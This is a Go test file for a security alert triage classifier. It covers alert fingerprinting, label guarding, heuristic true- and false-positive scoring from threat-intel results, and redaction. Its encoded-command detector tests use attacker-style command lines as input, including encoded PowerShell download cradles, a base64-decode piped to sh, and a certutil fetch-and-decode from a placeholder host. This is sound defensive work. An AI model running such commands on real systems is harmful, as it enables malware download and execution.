package classify

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/verdict-dev/verdict/pkg/model"
)

func TestFingerprintIgnoresVolatileFields(t *testing.T) {
	t.Parallel()
	a, _ := Fingerprint(json.RawMessage(`{"id":"1","@timestamp":"2026-11-22T01:00:00Z","flow_id":1,"event":{"id":"e1","created":"x"},"rule":"r","dst":"1.2.3.4","when":"2026-11-22 01:02:03"}`))
	b, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.4","id":"2","@timestamp":"2026-11-23T09:00:00Z","flow_id":2,"event":{"id":"e2","created":"y"},"when":"2026-11-23 05:06:07"}`))
	c, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.5"}`))
	d, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.4","DeviceName":"ws-1"}`))
	e, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.4","src_port":51234,"source":{"port":1}}`))
	f, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.4","dest_port":22}`))
	base, _ := Fingerprint(json.RawMessage(`{"rule":"r","dst":"1.2.3.4"}`))
	assert.Equal(t, base, e, "ephemeral source ports are noise")
	assert.NotEqual(t, a, f, "the destination port matters")
	assert.Equal(t, a, b, "only ids and timestamps differ")
	assert.NotEqual(t, a, c, "a different address is a different alert")
	assert.NotEqual(t, a, d, "stable attributes such as the device stay")
}

func TestGuard(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		label   string
		verdict model.Verdict
		want    string
	}{
		{name: "FP on MALICIOUS becomes NEEDS_REVIEW", label: FalsePositive, verdict: model.Malicious, want: NeedsReview},
		{name: "FP on SUSPICIOUS stands", label: FalsePositive, verdict: model.Suspicious, want: FalsePositive},
		{name: "TP on MALICIOUS stands", label: TruePositive, verdict: model.Malicious, want: TruePositive},
		{name: "NEEDS_REVIEW on MALICIOUS stands", label: NeedsReview, verdict: model.Malicious, want: NeedsReview},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := &model.Classification{Label: tt.label, Confidence: 95, Reasoning: []string{"a", "b", "c"}, Source: SourceGemini}
			Guard(c, model.Risk{Score: 80, Verdict: tt.verdict, Factors: []string{"IP 1.2.3.4: listed (+40)"}})
			assert.Equal(t, tt.want, c.Label)
			if tt.want != tt.label {
				assert.True(t, strings.HasPrefix(c.Reasoning[0], "Conflict:"))
				assert.Contains(t, c.Reasoning[0], "IP 1.2.3.4")
				assert.Len(t, c.Reasoning, 4)
				assert.LessOrEqual(t, c.Confidence, 50)
			} else {
				assert.Len(t, c.Reasoning, 3)
			}
		})
	}
}

func feedHit(feed string) map[string]*model.Result {
	return map[string]*model.Result{"feeds": {Status: model.StatusFound, Matches: []model.FeedMatch{{Feed: feed}}}}
}

// answers builds one indicator's enrichment from "provider=status" or
// "provider=skipped:reason".
func answers(specs ...string) map[string]*model.Result {
	m := map[string]*model.Result{}
	for _, sp := range specs {
		name, st, _ := strings.Cut(sp, "=")
		status, reason, _ := strings.Cut(st, ":")
		r := &model.Result{Status: model.Status(status), Reason: reason}
		if status == "error" {
			r.Error = "connection refused"
		}
		m[name] = r
	}
	return m
}

func TestHeuristic(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name       string
		raw        string
		risk       model.Risk
		iocs       []model.IOC
		enrichment map[string]map[string]*model.Result
		want       string
		reason     string
	}{
		{name: "MALICIOUS is a true positive", raw: `{"rule":"x"}`, risk: model.Risk{Score: 80, Verdict: model.Malicious},
			iocs: []model.IOC{{Type: "ipv4", Value: "1.2.3.4"}}, enrichment: map[string]map[string]*model.Result{"1.2.3.4": feedHit("feodo.csv")},
			want: TruePositive, reason: "listed in feodo.csv"},
		{name: "SUSPICIOUS plus Tor is a true positive", raw: `{"msg":"login"}`, risk: model.Risk{Score: 40, Verdict: model.Suspicious},
			iocs: []model.IOC{{Type: "ipv4", Value: "1.2.3.4"}}, enrichment: map[string]map[string]*model.Result{"1.2.3.4": feedHit("tor-exits.txt")},
			want: TruePositive, reason: "Tor exit node"},
		{name: "SUSPICIOUS alone needs review", raw: `{"msg":"dns query"}`, risk: model.Risk{Score: 40, Verdict: model.Suspicious}, want: NeedsReview},
		{name: "POTENTIALLY_SUSPICIOUS needs review", raw: `{}`, risk: model.Risk{Score: 15, Verdict: model.PotentiallySuspicious}, want: NeedsReview},
		{name: "clean policy alert is a false positive", raw: `{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`,
			risk: model.Risk{Verdict: model.Clean}, want: FalsePositive, reason: "policy"},
		{name: "clean but failed logins then success", raw: `{"full_log":"Failed password for root from 10.0.0.9; Accepted password for root from 10.0.0.9"}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "brute force that worked"},
		{name: "clean but high severity", raw: `{"rule":{"level":12,"description":"Multiple authentication failures"}}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "severe"},
		{name: "clean, no indicator, but it describes an OAuth token grab", raw: `{"ActionType":"Add delegated permission grant.","Application":"Office 365","Permissions":"User.Read Mail.ReadWrite"}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "T1528"},
		{name: "clean, no indicator, routine wording stays a false positive", raw: `{"ActionType":"Add member to group.","severity":"informational"}`,
			risk: model.Risk{Verdict: model.Clean}, want: FalsePositive},
		{name: "clean but the rule names an attack", raw: `{"rule_name":"Possible ransomware activity"}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "ransom"},
		{name: "off-hours raises it for a suspicious alert", raw: `{"@timestamp":"2026-11-24T03:12:00Z","msg":"x"}`,
			risk: model.Risk{Score: 40, Verdict: model.Suspicious}, want: NeedsReview, reason: "off-hours (03:12 UTC)"},
		{name: "SUSPICIOUS from a Tor feed category is a true positive", raw: `{"msg":"login"}`, risk: model.Risk{Score: 40, Verdict: model.Suspicious},
			iocs: []model.IOC{{Type: "ipv4", Value: "1.2.3.4"}}, enrichment: map[string]map[string]*model.Result{"1.2.3.4": {"feeds": {Status: model.StatusFound,
				Matches: []model.FeedMatch{{Feed: "exits.txt", Category: model.CategoryAnonymizer}}}}},
			want: TruePositive, reason: "listed in exits.txt (anonymizer)"},
		{name: "sad path: no FALSE_POSITIVE on an UNCHECKED alert, even a policy one", raw: `{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`,
			risk: model.Risk{Verdict: model.Unchecked}, iocs: []model.IOC{{Type: "ipv4", Value: "93.184.216.34"}, {Type: "ipv4", Value: "192.168.1.2", Skipped: "private"}},
			enrichment: map[string]map[string]*model.Result{"93.184.216.34": answers("virustotal=skipped:offline", "abuseipdb=skipped:offline")},
			want:       NeedsReview, reason: "None of its 1 indicator(s) was checked by any source (abuseipdb (offline), virustotal (offline)); nothing is known about them."},
		{name: "sad path: CLEAN in an old report but nothing answered is treated as UNCHECKED", raw: `{"msg":"x"}`,
			risk: model.Risk{Verdict: model.Clean}, iocs: []model.IOC{{Type: "domain", Value: "a.example.net"}},
			enrichment: map[string]map[string]*model.Result{"a.example.net": answers("virustotal=error")},
			want:       NeedsReview, reason: "virustotal (lookup failed)"},
		{name: "sad path: a type no source takes is named", raw: `{"msg":"x"}`,
			risk: model.Risk{Verdict: model.Unchecked}, iocs: []model.IOC{{Type: "url", Value: "http://a.example.net/x"}},
			want: NeedsReview, reason: "no source takes url"},
		{name: "partly checked with a suspicious context needs review", raw: `{"rule":{"description":"Possible credential dumping"}}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"feeds"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}, {Type: "domain", Value: "b.example.net"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("feeds=not_found", "virustotal=skipped:no_api_key"), "b.example.net": answers("virustotal=skipped:no_api_key")},
			want:       NeedsReview, reason: "Only 1 of 2 indicator(s) were checked (feeds: 1), none reported malicious; not checked: virustotal (no api key)."},
		{name: "fully checked by feeds only says what was not asked", raw: `{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"feeds"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("feeds=not_found", "virustotal=skipped:offline")},
			want:       FalsePositive, reason: "All 1 indicator(s) were checked (feeds: 1), none reported malicious; not asked: virustotal (offline)."},
		{name: "checked by feeds only, neutral context: too little evidence", raw: `{"msg":"outbound connection"}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"feeds"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("feeds=not_found", "virustotal=skipped:offline")},
			want:       NeedsReview, reason: "only local feeds checked its indicators"},
		{name: "partly checked, neutral context: too little evidence", raw: `{"msg":"outbound connection"}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"virustotal"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}, {Type: "ipv4", Value: "1.0.0.1"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("virustotal=found"), "1.0.0.1": answers("virustotal=error")},
			want:       NeedsReview, reason: "Only 1 of 2 indicator(s) were checked (virustotal: 1), none reported malicious; not checked: virustotal (lookup failed)."},
		{name: "fully checked by VirusTotal, neutral context", raw: `{"msg":"outbound connection"}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"virustotal"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("virustotal=found")},
			want:       FalsePositive, reason: "All 1 indicator(s) were checked (virustotal: 1), none reported malicious."},
		{name: "fully checked by VirusTotal", raw: `{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`,
			risk: model.Risk{Verdict: model.Clean, CheckedBy: []string{"feeds", "virustotal"}}, iocs: []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}},
			enrichment: map[string]map[string]*model.Result{"1.1.1.1": answers("feeds=not_found", "virustotal=found")},
			want:       FalsePositive, reason: "All 1 indicator(s) were checked (feeds: 1, virustotal: 1), none reported malicious."},
		{name: "nothing to check: the context decides, and says so", raw: `{"note":"SSL::Invalid_Server_Cert"}`,
			risk: model.Risk{Verdict: model.Clean}, iocs: []model.IOC{{Type: "ipv4", Value: "10.0.0.1", Skipped: "private"}, {Type: "ipv4", Value: "10.0.0.2", Skipped: "private"}},
			want: FalsePositive, reason: "The alert holds no indicator threat intel could check (2 private skipped); the label rests on its own context."},
		{name: "an encoded PowerShell command needs review", raw: `{"process":{"command_line":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "PowerShell -EncodedCommand"},
		{name: "certutil used to decode needs review", raw: `{"cmd":"certutil.exe -f -decode payload.b64 payload.exe"}`,
			risk: model.Risk{Verdict: model.Clean}, want: NeedsReview, reason: "certutil -decode"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := Heuristic(Case{Raw: json.RawMessage(tt.raw), Risk: tt.risk, IOCs: tt.iocs, Enrichment: tt.enrichment}, WhyNoKey)
			assert.Equal(t, tt.want, c.Label)
			assert.Equal(t, SourceHeuristic, c.Source)
			assert.Equal(t, WhyNoKey, c.Why)
			require.Len(t, c.Reasoning, 3)
			assert.GreaterOrEqual(t, c.Confidence, 0)
			assert.LessOrEqual(t, c.Confidence, 100)
			if tt.reason != "" {
				assert.Contains(t, strings.Join(c.Reasoning, " "), tt.reason)
			}
		})
	}
}

// Whatever the context, the heuristic never calls an UNCHECKED alert a
// false positive.
func TestHeuristicNeverFalsePositiveOnUnchecked(t *testing.T) {
	t.Parallel()
	raws := []string{`{}`, `{"msg":"heartbeat"}`, `{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`,
		`{"rule":{"level":2,"description":"audit success"}}`, `{"event":{"severity":"informational"},"@timestamp":"2026-11-24T12:00:00Z"}`}
	iocSets := [][]model.IOC{
		{{Type: "ipv4", Value: "93.184.216.34"}},
		{{Type: "sha256", Value: strings.Repeat("a", 64)}, {Type: "ipv4", Value: "10.0.0.1", Skipped: "private"}},
		{{Type: "domain", Value: "x.example.net"}, {Type: "url", Value: "https://x.example.net/"}},
	}
	enrich := []map[string]*model.Result{nil, answers("virustotal=skipped:offline"), answers("virustotal=error", "abuseipdb=skipped:quota_exhausted")}
	for _, raw := range raws {
		for _, iocs := range iocSets {
			for _, e := range enrich {
				em := map[string]map[string]*model.Result{}
				for _, i := range iocs {
					if i.Skipped == "" && e != nil {
						em[i.Value] = e
					}
				}
				for _, why := range []string{WhyOffline, WhyNoKey, WhyBudget} {
					c := Heuristic(Case{Raw: json.RawMessage(raw), Risk: model.Risk{Verdict: model.Unchecked}, IOCs: iocs, Enrichment: em}, why)
					assert.NotEqual(t, FalsePositive, c.Label, "%s %v %v", raw, iocs, e)
					assert.Contains(t, strings.Join(c.Reasoning, " "), "UNCHECKED")
					require.Len(t, c.Reasoning, 3)
				}
			}
		}
	}
}

// A false positive on partial evidence is less confident than one on full
// evidence.
func TestHeuristicConfidenceFollowsCoverage(t *testing.T) {
	t.Parallel()
	raw := json.RawMessage(`{"alert":{"signature":"ET POLICY curl User-Agent Outbound","severity":3}}`)
	iocs := []model.IOC{{Type: "ipv4", Value: "1.1.1.1"}, {Type: "ipv4", Value: "1.0.0.1"}}
	full := Heuristic(Case{Raw: raw, Risk: model.Risk{Verdict: model.Clean}, IOCs: iocs, Enrichment: map[string]map[string]*model.Result{
		"1.1.1.1": answers("virustotal=not_found"), "1.0.0.1": answers("virustotal=found")}}, WhyOffline)
	feedsOnly := Heuristic(Case{Raw: raw, Risk: model.Risk{Verdict: model.Clean}, IOCs: iocs, Enrichment: map[string]map[string]*model.Result{
		"1.1.1.1": answers("feeds=not_found"), "1.0.0.1": answers("feeds=not_found")}}, WhyOffline)
	partial := Heuristic(Case{Raw: raw, Risk: model.Risk{Verdict: model.Clean}, IOCs: iocs, Enrichment: map[string]map[string]*model.Result{
		"1.1.1.1": answers("feeds=not_found"), "1.0.0.1": answers("virustotal=skipped:offline")}}, WhyOffline)
	for _, c := range []*model.Classification{full, feedsOnly, partial} {
		assert.Equal(t, FalsePositive, c.Label)
	}
	assert.Greater(t, full.Confidence, feedsOnly.Confidence)
	assert.Greater(t, feedsOnly.Confidence, partial.Confidence)
}

func TestEncodedCommand(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA":                     "PowerShell -EncodedCommand",
		"PowerShell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA":    "PowerShell -EncodedCommand",
		`"powershell" /enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`:                 "PowerShell -EncodedCommand",
		"[System.Convert]::FromBase64String($s)":                                     "FromBase64String",
		"echo aGVsbG8= | base64 -d | sh":                                             "base64 --decode",
		"certutil -urlcache -f http://x/a.txt a.txt && certutil -decode a.txt a.exe": "certutil -decode",
		"powershell -ExecutionPolicy Bypass -File update.ps1":                        "",
		"grep -e pattern file.txt":                                                   "",
		"User-Agent: curl/7.58.0":                                                    "",
	} {
		assert.Equal(t, want, encodedCommand(in), in)
	}
}

func TestRedactorTokens(t *testing.T) {
	t.Parallel()
	// Whole tokens only ("admin" is not in "administrator"); every
	// non-global address, not only the indicators (10.1.2.30 too).
	r := NewRedactor(Case{Raw: json.RawMessage(`{"user":{"name":"admin"},"hostname":"DC01","msg":"admin logged into administrator console on DC01. Mail jo@x.example.com"}`),
		IOCs: []model.IOC{{Type: "ipv4", Value: "10.1.2.3", Skipped: "private"}}}, nil)
	in := "admin and administrator on DC01. from 10.1.2.3 and 10.1.2.30, jo@x.example.com"
	out := r.Apply(in)
	want := "⟦user-1:T⟧ and administrator on ⟦host-1:T⟧. from ⟦ip-private-1:T⟧ and ⟦ip-private-2:T⟧, ⟦user-2:T⟧@x.example.com"
	assert.Equal(t, strings.ReplaceAll(want, ":T⟧", ":"+r.token+"⟧"), out)
	assert.Equal(t, in, r.Restore(out))
}
